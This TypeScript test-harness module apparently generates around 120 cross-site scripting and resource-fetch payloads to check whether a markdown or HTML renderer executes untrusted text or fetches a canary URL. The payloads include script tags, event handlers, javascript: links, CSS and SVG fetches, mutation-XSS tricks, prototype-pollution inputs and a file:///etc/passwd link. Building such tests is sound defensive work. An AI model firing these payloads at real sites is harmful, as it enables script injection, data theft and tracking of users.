/** A text that would run a script, or fetch from somewhere, in a page that took it for more than text. */
export type Payload = {
  /** From 1. Part of what it would set and fetch, so that one that worked is known. */
  readonly number: number;
  readonly text: string;
};

/**
 * The payloads, the first 40 of which stand for every kind. What they run sets `window.__pwned` to their number; what
 * they fetch is `<canary>/<number>`.
 */
export function makePayloads(canary: string, count = TEMPLATES.length): readonly Payload[] {
  return TEMPLATES.slice(0, count).map((template, at) => {
    const number = at + 1;
    const text = template
      .replaceAll('PWN', `window.__pwned=${number}`)
      .replaceAll('HOST', `${new URL(canary).host}/${number}`)
      .replaceAll('URL', `${canary}/${number}`);
    return { number, text };
  });
}

/** One of each kind. */
const SELECTED = [
  '<script>PWN</script>',
  '<img src=x onerror="PWN">',
  '<svg onload="PWN"></svg>',
  '<iframe srcdoc="<script>parent.PWN</script>"></iframe>',
  '<iframe src="javascript:parent.PWN"></iframe>',
  '[click](javascript:PWN)',
  '<a href="javascript:PWN" autofocus onfocus="PWN">x</a>',
  '![pixel](URL)',
  '![alt" onerror="PWN](URL "title\' onload=\'PWN")',
  '<img src="URL">',
  '<img srcset="URL 1x, URL 2x">',
  '<picture><source srcset="URL"><img></picture>',
  '<div style="background:url(URL)">styled</div>',
  '<style>@import "URL"; body{background:url(URL)}</style>',
  '<link rel="stylesheet" href="URL">',
  '<svg><image href="URL"/></svg>',
  '<svg><use href="URL#x"/></svg>',
  '<video src="URL" poster="URL" onerror="PWN"></video>',
  '<object data="URL"></object><embed src="URL">',
  '<meta http-equiv="refresh" content="0;url=URL">',
  '<base href="URL/">',
  '<form action="URL"><button autofocus formaction="javascript:PWN">go</button></form>',
  '<details open ontoggle="PWN">d</details>',
  '<input autofocus onfocus="PWN">',
  '![ref][pic]\n\n[pic]: URL "t"',
  '<URL>',
  'www.URL and URL',
  '```mermaid\ngraph TD; A["<img src=URL onerror=PWN>"] --> B; click A "javascript:PWN"\n```',
  '```html\n<script>PWN</script><img src=URL onerror=PWN>\n```',
  '| a | b |\n| --- | --- |\n| <img src=URL onerror=PWN> | ![x](URL) |',
  '$$\\href{javascript:PWN}{x} \\includegraphics{URL}$$',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=URL onerror=PWN&gt;">',
  '<noscript><p title="</noscript><img src=URL onerror=PWN>"></noscript>',
  "{{constructor.constructor('PWN')()}} ${PWN} <%= PWN %>",
  '"><img src=URL onerror=PWN><"',
  "'-alert(1)-';PWN//",
  '</textarea></title></script><img src=URL onerror=PWN>',
  '<!--><img src=URL onerror=PWN>-->',
  '[x](data:text/html,<script>opener.PWN</script>)',
  '&lt;script&gt;PWN&lt;/script&gt; [x](javascript&colon;PWN)',
] as const;

const SCRIPTS = [
  '<ScRiPt>PWN</sCrIpT>',
  '<script src="URL"></script>',
  '<script type="module">import "URL"; PWN</script>',
  '<script>PWN',
  '<scr<script>ipt>PWN</scr</script>ipt>',
  '<script/x>PWN</script>',
  '\u0000<script>PWN</script>',
  '<script\u2028>PWN</script>',
  '<svg><animate onbegin="PWN" attributeName="x" dur="1s"/></svg>',
  '&#60;script&#62;PWN&#60;/script&#62;',
  '%3Cscript%3EPWN%3C/script%3E',
  '\\u003cscript\\u003ePWN\\u003c/script\\u003e',
  '<template><script>PWN</script></template>',
  '<svg><script href="URL">PWN</script></svg>',
  '<svg><script>PWN</script></svg>',
] as const;

const HANDLERS = [
  '<img/src="x"/onerror=PWN>',
  '<img src=x:x onerror\n=PWN>',
  '<img src onerror=PWN',
  '<IMG """><img src=x onerror="PWN">',
  '<body onload="PWN" onpageshow="PWN">',
  '<svg/onload=PWN>',
  '<audio src=x onerror="PWN">',
  '<video><source onerror="PWN"></video>',
  '<marquee onstart="PWN">m</marquee>',
  '<select autofocus onfocus="PWN"></select>',
  '<textarea autofocus onfocus="PWN"></textarea>',
  '<div contenteditable autofocus onfocus="PWN" tabindex=1>x</div>',
  '<style>@keyframes x{}</style><p style="animation-name:x;animation-duration:1s" onanimationstart="PWN">x</p>',
  '<xss style="transition:color 1s" ontransitionend="PWN" id=x tabindex=1>x</xss>',
  '<object data="x" onerror="PWN"></object>',
  '<link rel=stylesheet href=x onerror="PWN">',
  '<iframe onload="PWN"></iframe>',
  '<svg><set onbegin="PWN" attributeName="x"/></svg>',
  '<custom-element onclick="PWN" style="position:fixed;inset:0">x</custom-element>',
  '<button popovertarget=p>b</button><p popover id=p onbeforetoggle="PWN">p</p>',
] as const;

const LINKS = [
  '[x](JaVaScRiPt:PWN)',
  '[x](java\nscript:PWN)',
  '[x](java&#10;script:PWN)',
  '[x](&#106;avascript:PWN)',
  '[x](\u0001javascript:PWN)',
  '[x](javascript&colon;PWN)',
  '[x](<javascript:PWN>)',
  '[x](vbscript:PWN)',
  '[x]: javascript:PWN\n\n[x]',
  '<javascript:PWN>',
  '[x](URL "a" onmouseover="PWN")',
  "[x](URL'onmouseover='PWN)",
  '[![inner](URL)](javascript:PWN)',
  '[x](blob:URL) [y](file:///etc/passwd) [z](memoir://app/)',
  '<a href="URL" ping="URL" download>x</a>',
  '<a target="_self" href="javascript:PWN" style="position:fixed;inset:0">x</a>',
  '[^1]\n\n[^1]: ![foot](URL) <img src=URL onerror=PWN>',
  '<area href="javascript:PWN"><map name="m"></map>',
] as const;

const FETCHES = [
  '![](URL)',
  '![ ](<URL>)',
  '![x](//HOST)',
  '![x](\\\\HOST)',
  '![x](URL#"onload="PWN)',
  '![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="PWN"><image href="URL"/></svg>)',
  '<img src="//HOST">',
  '<img lowsrc="URL" dynsrc="URL" data-src="URL" src="URL" loading="eager">',
  '<input type="image" src="URL">',
  '<table background="URL"><td background="URL">x</td></table>',
  '<style>p::before{content:url(URL)} @font-face{font-family:x;src:url(URL)} p{font-family:x}</style>',
  '<p style="list-style:url(URL);cursor:url(URL),auto;border-image:url(URL)">x</p>',
  '<link rel="preload" as="image" href="URL"><link rel="prefetch" href="URL"><link rel="dns-prefetch" href="URL">',
  '<link rel="icon" href="URL"><link rel="manifest" href="URL">',
  '<svg><feImage href="URL"/><filter id="f"></filter><rect filter="url(URL#f)"/></svg>',
  '<svg><foreignObject><iframe src="URL"></iframe></foreignObject></svg>',
  '<audio autoplay src="URL"></audio><track src="URL">',
  '<frameset><frame src="URL"></frameset>',
] as const;

const STRUCTURES = [
  '```svg\n<svg onload="PWN"><image href="URL"/></svg>\n```',
  '```vega-lite\n{"data":{"url":"URL"},"mark":"bar"}\n```',
  '```"><img src=URL onerror=PWN>\ncode\n```',
  '- [ ] <img src=URL onerror=PWN>\n  > <svg onload=PWN>',
  '<details><summary>s</summary>\n\n![x](URL)\n\n<script>PWN</script></details>',
  '<p id="root" name="__proto__">x</p><form id="location"><input name="href"></form>',
  '{"__proto__":{"innerHTML":"<img src=URL onerror=PWN>"},"constructor":{"prototype":{"x":1}}}',
  '\u202E<img src=URL onerror=PWN>\u202C \u001B[31m\u001B]8;;URL\u0007x\u001B]8;;\u0007',
  '<div dangerouslysetinnerhtml=\'{"__html":"<img src=URL onerror=PWN>"}\'>x</div>',
] as const;

const TEMPLATES = [...SELECTED, ...SCRIPTS, ...HANDLERS, ...LINKS, ...FETCHES, ...STRUCTURES];
